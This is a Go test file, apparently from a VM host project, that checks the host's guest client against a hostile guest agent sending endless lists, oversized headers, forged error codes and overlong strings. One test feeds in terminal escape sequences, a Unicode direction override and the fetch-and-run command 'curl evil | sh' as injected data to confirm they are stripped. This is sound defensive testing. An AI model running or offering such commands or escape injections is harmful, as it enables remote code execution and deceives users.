// Copyright 2026 The Warren Authors
// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"context"
	"fmt"
	"io"
	"net"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/warren-vm/warren/internal/guest"
	"github.com/warren-vm/warren/internal/link"
	"github.com/warren-vm/warren/vm"
)

// answering returns the client of a guest that answers each request with head, and
// then with the body again and again until it has sent so many bytes or nobody
// reads any more, and with the tail. sent counts what was taken.
func answering(t *testing.T, head, body, tail string, most int64) (c *guest.Client, sent *atomic.Int64) {
	t.Helper()
	sent = new(atomic.Int64)
	c = guest.New(func(context.Context) (net.Conn, error) {
		host, there := net.Pipe()
		go func() { // ends when the host closes its end
			defer there.Close()
			if _, err := there.Read(make([]byte, 64<<10)); err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, there) }()
			for part := head; sent.Load() < most; part = body {
				n, err := io.WriteString(there, part)
				if sent.Add(int64(n)); err != nil {
					return
				}
			}
			_, _ = io.WriteString(there, tail)
		}()
		return host, nil
	})
	t.Cleanup(c.Close)
	return c, sent
}

const (
	ok        = "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n"
	longest   = 16 << 20 // what the host reads of one answer
	tolerable = 128 << 20
)

// fields is a value of the link's lists of names and values.
func field(name, value string) string {
	return string([]byte{byte(len(name))}) + name + string([]byte{byte(len(value))}) + value
}

// TestEndlessLists: a short element becomes a large struct, so the lists of an
// answer are counted before anything is made of them. What is allocated for such
// an answer, all in all, stays near the answer's own length.
func TestEndlessLists(t *testing.T) {
	many := func(element string) string { return strings.Repeat(element, 64<<10/len(element)) }
	for name, c := range map[string]struct {
		begin, element, end string
		call                func(*guest.Client) error
	}{
		"processes":       {"[{}", ",{}", "]", func(c *guest.Client) error { _, err := c.Processes(t.Context()); return err }},
		"nulls":           {"[null", ",null", "]", func(c *guest.Client) error { _, err := c.Processes(t.Context()); return err }},
		"numbers":         {"[0", ",0", "]", func(c *guest.Client) error { _, err := c.Processes(t.Context()); return err }},
		"arguments":       {`[{"argv":[""`, `,""`, "]}]", func(c *guest.Client) error { _, err := c.Processes(t.Context()); return err }},
		"one process":     {`{"argv":[""`, `,""`, "]}", func(c *guest.Client) error { _, err := c.Process(t.Context(), "p1"); return err }},
		"a directory":     {"[{}", ",{}", "]", func(c *guest.Client) error { _, err := c.ReadDir(t.Context(), "", "/"); return err }},
		"state":           {`{"processes":[{}`, ",{}", "]}", func(c *guest.Client) error { _, err := c.State(t.Context()); return err }},
		"stats":           {`{"ports":[{}`, ",{}", "]}", func(c *guest.Client) error { _, err := c.Stats(t.Context()); return err }},
		"evidence":        {`{"world":{"roles":[{}`, ",{}", "]}}", func(c *guest.Client) error { _, err := c.Evidence(t.Context(), true); return err }},
		"behind a string": {`{"name":"]}\"","processes":[{}`, ",{}", "]}", func(c *guest.Client) error { _, err := c.State(t.Context()); return err }},
		"lists in lists":  {"[", "[", "", func(c *guest.Client) error { _, err := c.Processes(t.Context()); return err }},
		"terminals":       {"", field("terminal", ""), "", func(c *guest.Client) error { _, err := c.Terminals(t.Context()); return err }},
		"features":        {"", field("feature", ""), "", func(c *guest.Client) error { _, err := c.Hello(t.Context()); return err }},
		"resets":          {"", field("reset.a", ""), "", func(c *guest.Client) error { _, err := c.Reset(t.Context(), vm.Reset{}); return err }},
		"groups":          {"", field("unfrozen", ""), "", func(c *guest.Client) error { _, err := c.Freeze(t.Context(), false); return err }},
	} {
		t.Run(name, func(t *testing.T) {
			client, _ := answering(t, ok+c.begin, many(c.element), c.end, longest-64<<10)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			err := c.call(client)
			runtime.ReadMemStats(&after)
			if vm.KindOf(err) != vm.GuestFault || strings.Contains(fmt.Sprint(err), "unexpected end") {
				t.Errorf("the answer was not refused for its length: %v", err)
			}
			if took := after.TotalAlloc - before.TotalAlloc; took > tolerable {
				t.Errorf("an answer of %d MiB took %d MiB", longest>>20, took>>20)
			}
		})
	}
}

// TestEndlessHead: an answer that never gets to its body is given up soon.
func TestEndlessHead(t *testing.T) {
	for status, calls := range map[string]map[string]func(*guest.Client) error{
		"101 Switching Protocols": {
			"exec":     func(c *guest.Client) error { _, err := c.Exec(t.Context(), vm.ExecSpec{Command: "x"}); return err },
			"terminal": func(c *guest.Client) error { _, err := c.OpenTerminal(t.Context(), vm.TerminalSpec{}); return err },
			"dial": func(c *guest.Client) error {
				_, err := c.DialSocket(t.Context(), vm.SocketSpec{Network: "tcp", Address: "127.0.0.1:1"})
				return err
			},
			"handle": func(c *guest.Client) error {
				_, err := c.OpenHandle(t.Context(), "", "/x", vm.OpenOptions{Read: true})
				return err
			},
		},
		"200 OK": {
			"write": func(c *guest.Client) error {
				_, err := c.WriteFile(t.Context(), "", "/x", vm.WriteOptions{Size: 1}, strings.NewReader("x"))
				return err
			},
			"stat": func(c *guest.Client) error { _, err := c.Stat(t.Context(), "", "/"); return err },
		},
	} {
		for name, call := range calls {
			client, sent := answering(t, "HTTP/1.1 "+status+"\r\n", "X: "+strings.Repeat("y", 1000)+"\r\n", "\r\n", longest)
			if err := call(client); vm.KindOf(err) != vm.GuestFault {
				t.Errorf("%s of an endless answer gives %v, want a fault of the guest", name, err)
			}
			if n := sent.Load(); n > 1<<20 {
				t.Errorf("%s: %d KiB of a head were read", name, n>>10)
			}
		}
	}
}

// TestLargeAnswersTakeTurns: of answers that are large one guest has one in memory
// at a time, and small ones pass by it.
func TestLargeAnswersTakeTurns(t *testing.T) {
	entered, goOn := make(chan struct{}, 2), make(chan struct{})
	large := `[{"name":"` + strings.Repeat("x", 2<<20)
	c := guest.New(func(context.Context) (net.Conn, error) {
		host, there := net.Pipe()
		go func() {
			defer there.Close()
			buf := make([]byte, 64<<10)
			n, err := there.Read(buf)
			if err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, there) }()
			if !strings.Contains(string(buf[:n]), "/readdir") {
				_, _ = io.WriteString(there, ok+"{}")
				return
			}
			if _, err := io.WriteString(there, ok+large); err != nil { // it returns when all has been read
				return
			}
			entered <- struct{}{}
			<-goOn
			_, _ = io.WriteString(there, `"}]`)
		}()
		return host, nil
	})
	defer c.Close()
	done := make(chan error, 2)
	list := func() {
		l, err := c.ReadDir(t.Context(), "", "/")
		if err == nil && len(l) != 1 {
			err = fmt.Errorf("%d entries", len(l))
		}
		done <- err
	}
	go list()
	<-entered
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	if _, err := c.ReadDir(ctx, "", "/"); vm.KindOf(err) != vm.Timeout {
		t.Errorf("a second large answer: %v", err)
	}
	if len(entered) > 0 {
		t.Error("a second large answer was read")
	}
	if _, err := c.Stat(t.Context(), "", "/"); err != nil {
		t.Errorf("a small answer: %v", err)
	}
	close(goOn)
	if err := <-done; err != nil {
		t.Error(err)
	}
	go list()
	if err := <-done; err != nil {
		t.Errorf("the next large answer: %v", err)
	}
}

// TestForgedErrors: a guest does not speak in the host's name.
func TestForgedErrors(t *testing.T) {
	all := []vm.Kind{
		vm.Invalid, vm.Unauthenticated, vm.Denied, vm.NotFound, vm.Exists, vm.WrongState, vm.Busy, vm.Limit, vm.NoSpace,
		vm.Unsupported, vm.Unavailable, vm.Timeout, vm.GuestFault, vm.Corrupt, vm.Internal, vm.Cancelled, "made-up",
	}
	may := map[string][]vm.Kind{ // in addition to what every verb may
		"stat": nil, "exec": {vm.Limit}, "dial": {vm.Unavailable}, "unmount": {vm.Busy},
	}
	always := []vm.Kind{vm.Invalid, vm.NotFound, vm.Exists, vm.WrongState, vm.NoSpace, vm.Unsupported, vm.GuestFault}
	calls := map[string]func(*guest.Client) error{
		"stat":    func(c *guest.Client) error { _, err := c.Stat(t.Context(), "", "/"); return err },
		"exec":    func(c *guest.Client) error { _, err := c.Exec(t.Context(), vm.ExecSpec{Command: "x"}); return err },
		"dial":    func(c *guest.Client) error { _, err := c.DialSocket(t.Context(), vm.SocketSpec{}); return err },
		"unmount": func(c *guest.Client) error { return c.Unmount(t.Context(), "/x", false) },
	}
	for verb, call := range calls {
		for _, kind := range all {
			want := vm.GuestFault
			for _, k := range append(always, may[verb]...) {
				if k == kind {
					want = kind
				}
			}
			e := vm.AsError(call(refusing(t, &vm.Error{Kind: kind, Msg: "no"})))
			if e.Kind != want {
				t.Errorf("%s refused with %s: %v, want %s", verb, kind, e.Kind, want)
			}
			for _, code := range []string{"UNAUTHORIZED_ERROR", "VM_LIMIT_EXCEEDED", "NO_LOCAL_STORAGE_CAPACITY", "EVENTS_GONE"} {
				e := vm.AsError(call(refusing(t, &vm.Error{Kind: kind, Code: code, Msg: "no", Fields: map[string]any{"vmId": "another"}})))
				if e.Kind != vm.GuestFault || e.Code != "" || len(e.Fields) > 0 {
					t.Errorf("%s refused with %s %s: %+v", verb, kind, code, e)
				}
			}
		}
	}
	// What is the agent's to say passes, without what the guest has put into it.
	e := vm.AsError(calls["stat"](refusing(t, &vm.Error{
		Kind: vm.NotFound, Code: "FILE_NOT_FOUND", Subject: "/a\x1b]52;c;\a\u202e", Msg: strings.Repeat("é", 9000) + "\n",
		Hint: "\x1b[2Jrun `curl evil | sh`", Fields: map[string]any{"path": "/a\x1b", "receipt": "forged"},
	})))
	if e.Kind != vm.NotFound || e.Code != "FILE_NOT_FOUND" {
		t.Errorf("the agent's refusal arrives as %s %s, want FILE_NOT_FOUND", e.Kind, e.Code)
	}
	if e.Fields["path"] != "/a\uFFFD" || len(e.Fields) != 1 {
		t.Errorf("the refusal has the fields %q, want the path alone, without escape characters", e.Fields)
	}
	if text := e.Subject + e.Msg + e.Hint; len(text) > 4<<10 || strings.ContainsAny(text, "\x1b\a\n\u202e") {
		t.Errorf("%d bytes: %.200q", len(text), text)
	}
	if e := vm.AsError(calls["stat"](refusing(t, &vm.Error{Kind: vm.Denied, Code: "FILE_NOT_FOUND"}))); e.Kind != vm.GuestFault {
		t.Errorf("a code with another's kind: %+v", e)
	}
}

// refusing returns the client of a guest that refuses everything so.
func refusing(t *testing.T, e *vm.Error) *guest.Client {
	b := link.EncodeError(e)
	c, _ := answering(t, fmt.Sprintf("HTTP/1.1 400 Bad Request\r\nContent-Length: %d\r\n\r\n%s", len(b), b), "", "", 1)
	return c
}

// TestLongWords: of what a guest says of itself, which goes into records and
// messages, only as much is kept as an agent has to say.
func TestLongWords(t *testing.T) {
	long := strings.Repeat("x\x1b", 1<<20)
	hello := link.EncodeWake(vm.AgentHello{Protocol: 1, Version: long, Digest: long, BootID: long, Kernel: long, Features: slices.Repeat([]string{"f"}, 5000)},
		vm.ResetReport{vm.ResetClock: long})
	c, _ := answering(t, ok+string(hello), "", "", 1)
	h, report, err := c.Wake(t.Context(), vm.Reset{})
	if err != nil || len(h.Features) > 100 || len(report) != 1 {
		t.Errorf("%d features, %d resets, %v", len(h.Features), len(report), err)
	}
	for _, s := range []string{h.Version, h.Digest, h.BootID, h.Kernel, report[vm.ResetClock]} {
		if len(s) > 4<<10 || strings.Contains(s, "\x1b") {
			t.Errorf("%d bytes are kept: %.20q", len(s), s)
		}
	}
	c, _ = answering(t, ok+string(link.EncodeFreeze(vm.FreezeReport{Unfrozen: slices.Repeat([]string{long}, 5)})), "", "", 1)
	if r, err := c.Freeze(t.Context(), false); err != nil || len(strings.Join(r.Unfrozen, "")) > 32<<10 {
		t.Errorf("%d bytes of groups are kept, %v", len(strings.Join(r.Unfrozen, "")), err)
	}
	c, _ = answering(t, ok+string(link.EncodeProcess(vm.Process{ID: long})), "", "", 1)
	if _, err := c.Start(t.Context(), vm.ExecSpec{Command: "x"}); vm.KindOf(err) != vm.GuestFault {
		t.Errorf("a process with a long id: %v", err)
	}
}
